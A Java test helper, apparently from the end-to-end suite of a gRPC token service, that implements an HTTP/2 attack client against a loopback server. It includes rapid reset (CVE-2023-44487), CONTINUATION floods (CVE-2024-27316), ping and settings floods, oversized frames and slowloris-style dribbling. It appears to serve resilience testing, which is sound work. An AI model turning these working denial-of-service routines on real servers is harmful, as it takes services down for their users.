package dev.signet.authority.e2e;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.util.ArrayDeque;
import java.util.Deque;
import java.util.Map;
import java.util.function.BooleanSupplier;

/** A client of HTTP/2 that keeps to none of its rules: it sends what it is told to, and reads nothing but to throw it away. */
final class Http2Attack implements AutoCloseable {
    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(US_ASCII);
    private static final int DATA = 0;
    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int PING = 6;
    private static final int CONTINUATION = 9;
    private static final int END_HEADERS = 4;
    /** So many frames in one write. */
    private static final int BATCH = 500;

    private final Socket socket;
    private final OutputStream out;
    private int stream = 1;

    private Http2Attack(int port) throws IOException {
        socket = new Socket(InetAddress.getLoopbackAddress(), port);
        out = socket.getOutputStream();
        Thread reader = new Thread(this::throwAway, "attack-reader");
        reader.setDaemon(true);
        reader.start();
    }

    /** What is done with a connection again and again. */
    interface Step {
        void on(Http2Attack connection) throws IOException;
    }

    /** Attacks again and again, on a connection after another as each is ended, until told to stop; returns how many. */
    static int attack(int port, Step step, BooleanSupplier isTimeUp) {
        int connections = 0;
        while (!isTimeUp.getAsBoolean()) {
            try (Http2Attack attack = new Http2Attack(port)) {
                connections++;
                attack.begin();
                while (!isTimeUp.getAsBoolean()) {
                    step.on(attack);
                }
            } catch (IOException e) {
                // Ended by the other side, as it should.
            }
        }
        return connections;
    }

    /** Holds many connections at a time, and does a little on each now and then. */
    static void dribble(int port, int count, Step step, BooleanSupplier isTimeUp) {
        Deque<Http2Attack> open = new ArrayDeque<>();
        while (!isTimeUp.getAsBoolean()) {
            try {
                Http2Attack next = open.size() < count ? new Http2Attack(port) : open.remove();
                if (next.stream == 1) {
                    next.begin();
                }
                step.on(next);
                open.add(next);
            } catch (IOException e) {
                // That one was ended.
            }
        }
        open.forEach(Http2Attack::close);
    }

    private void throwAway() {
        byte[] bytes = new byte[64 << 10];
        try (InputStream in = socket.getInputStream()) {
            while (in.read(bytes) >= 0) {
                // Nobody cares.
            }
        } catch (IOException e) {
            // Over.
        }
    }

    private void begin() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        bytes.write(PREFACE);
        bytes.write(frame(SETTINGS, 0, 0, new byte[0]));
        out.write(bytes.toByteArray());
    }

    /** Begins calls and takes them back at once (CVE-2023-44487). */
    void rapidReset() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        for (int call = 0; call < BATCH; call++) {
            bytes.write(frame(HEADERS, END_HEADERS, stream, call("/signet.v1.TokenService/WhoAmI")));
            bytes.write(frame(RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8}));
            stream += 2;
        }
        out.write(bytes.toByteArray());
    }

    void pings() throws IOException {
        repeat(frame(PING, 0, 0, new byte[8]));
    }

    void settings() throws IOException {
        repeat(frame(SETTINGS, 0, 0, new byte[] {0, 4, 0, 1, 0, 0}));
    }

    /** Frames without a byte, of a call that goes on. */
    void emptyData() throws IOException {
        if (stream == 1) {
            out.write(frame(HEADERS, END_HEADERS, stream, call("/signet.v1.VerifierService/VerifyStream")));
            stream += 2;
        }
        repeat(frame(DATA, 0, 1, new byte[0]));
    }

    /** A head that never ends (CVE-2024-27316). */
    void continuations() throws IOException {
        if (stream == 1) {
            out.write(frame(HEADERS, 0, stream, call("/signet.v1.TokenService/WhoAmI")));
            stream += 2;
        }
        repeat(frame(CONTINUATION, 0, 1, header("x", "y")));
    }

    /** A head of a megabyte, in frames that are each as they should be. */
    void largeHead() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        bytes.write(frame(HEADERS, 0, stream, call("/signet.v1.TokenService/WhoAmI")));
        for (int part = 0; part < 64; part++) {
            byte[] much = header("x" + part, "y".repeat(16_000));
            bytes.write(frame(CONTINUATION, part == 63 ? END_HEADERS : 0, stream, much));
        }
        stream += 2;
        out.write(bytes.toByteArray());
    }

    /** A frame that says it has 16 MB, and has many of them. */
    void largeFrame() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        bytes.write(new byte[] {(byte) 0xff, (byte) 0xff, (byte) 0xff, DATA, 0, 0, 0, 0, 1});
        bytes.write(new byte[1 << 20]);
        out.write(bytes.toByteArray());
    }

    /** Messages that say they have 2 GB. */
    void largeMessage() throws IOException {
        out.write(frame(HEADERS, END_HEADERS, stream, call("/signet.v1.VerifierService/Verify")));
        byte[] message = new byte[16_000];
        message[1] = 0x7f;
        message[2] = (byte) 0xff;
        message[3] = (byte) 0xff;
        message[4] = (byte) 0xff;
        out.write(frame(DATA, 0, stream, message));
        stream += 2;
    }

    /** Calls that nobody has a credential for, as many as there can be. */
    void calls() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        for (int call = 0; call < BATCH; call++) {
            bytes.write(frame(HEADERS, END_HEADERS, stream, call("/signet.v1.TokenService/WhoAmI")));
            stream += 2;
        }
        out.write(bytes.toByteArray());
    }

    /** One byte of a head that is announced. */
    void slowHead() throws IOException {
        if (stream == 1) {
            out.write(new byte[] {0, 4, 0, HEADERS, END_HEADERS, 0, 0, 0, 1});
            stream += 2;
        }
        out.write(0);
    }

    /** One byte of a message that is announced. */
    void slowBody() throws IOException {
        if (stream == 1) {
            out.write(frame(HEADERS, END_HEADERS, stream, call("/signet.v1.VerifierService/VerifyStream")));
            out.write(new byte[] {0, 64, 0, DATA, 0, 0, 0, 0, 1});
            stream += 2;
        }
        out.write(0);
    }

    private void repeat(byte[] frame) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        for (int sent = 0; sent < BATCH; sent++) {
            bytes.write(frame);
        }
        out.write(bytes.toByteArray());
    }

    private static byte[] call(String path) throws IOException {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        for (Map.Entry<String, String> each : Map.of(
                        ":method", "POST", ":scheme", "http", ":path", path, ":authority", "localhost")
                .entrySet()) {
            block.write(header(each.getKey(), each.getValue()));
        }
        block.write(header("content-type", "application/grpc"));
        block.write(header("te", "trailers"));
        block.write(header("authorization", "Bearer eyJhbGciOiJFUzI1NiJ9.e30.x"));
        return block.toByteArray();
    }

    /** Literal, and kept in no table (RFC 7541 section 6.2.2). */
    private static byte[] header(String name, String value) throws IOException {
        ByteArrayOutputStream header = new ByteArrayOutputStream();
        header.write(0);
        for (String text : new String[] {name, value}) {
            int length = text.length();
            if (length < 127) {
                header.write(length);
            } else {
                header.write(127);
                for (length -= 127; length >= 128; length /= 128) {
                    header.write(length % 128 + 128);
                }
                header.write(length);
            }
            header.write(text.getBytes(US_ASCII));
        }
        return header.toByteArray();
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) throws IOException {
        ByteArrayOutputStream frame = new ByteArrayOutputStream();
        frame.write(payload.length >> 16);
        frame.write(payload.length >> 8);
        frame.write(payload.length);
        frame.write(type);
        frame.write(flags);
        for (int shift = 24; shift >= 0; shift -= 8) {
            frame.write(stream >> shift);
        }
        frame.write(payload);
        return frame.toByteArray();
    }

    @Override
    public void close() {
        try {
            socket.close();
        } catch (IOException e) {
            // It is over all the same.
        }
    }
}
